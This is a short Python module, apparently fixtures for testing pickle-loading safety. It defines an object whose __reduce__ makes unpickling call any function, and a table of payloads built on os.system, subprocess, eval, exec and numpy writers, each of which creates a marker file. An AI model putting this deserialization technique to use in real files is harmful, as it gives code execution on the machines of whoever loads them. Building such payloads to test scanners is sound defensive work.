"""Objects whose pickles call functions when they are loaded, and harm of many kinds made of them."""

from __future__ import annotations

import builtins
import functools
import os
import pathlib
import subprocess
from collections.abc import Callable
from typing import Any

import numpy as np


class Call:
    """An object whose pickle calls ``function(*arguments)`` and hands it ``state`` when it is loaded."""

    def __init__(self, function: Callable[..., Any], *arguments: Any, state: Any = None) -> None:
        self.reduced = (function, arguments) if state is None else (function, arguments, state)

    def __reduce__(self) -> tuple[Any, ...]:
        return self.reduced

    def __hash__(self) -> int:
        return 0


# Each makes the file {0} in its own way when a trusting unpickler loads it.
HARM: dict[str, Callable[[str], Any]] = {
    "os.system": lambda f: Call(os.system, f"touch {f}"),
    "subprocess.check_call": lambda f: Call(subprocess.check_call, ["touch", f]),
    "builtins.eval": lambda f: Call(builtins.eval, f"open({f!r}, 'w').close()"),
    "builtins.exec": lambda f: Call(builtins.exec, f"open({f!r}, 'w').close()"),
    "os.mkdir": lambda f: Call(os.mkdir, f),
    "pathlib.Path.touch": lambda f: Call(pathlib.Path.touch, Call(pathlib.PosixPath, f)),
    "functools.partial": lambda f: Call(functools.partial(os.system), f"touch {f}"),
    "numpy.memmap": lambda f: Call(np.memmap, f, "f4", "w+", 0, (1,)),
    "numpy.save": lambda f: Call(np.save, f + ".npy", 0),
    "numpy.ndarray.tofile": lambda f: Call(np.ndarray.tofile, np.zeros(3), f),
}
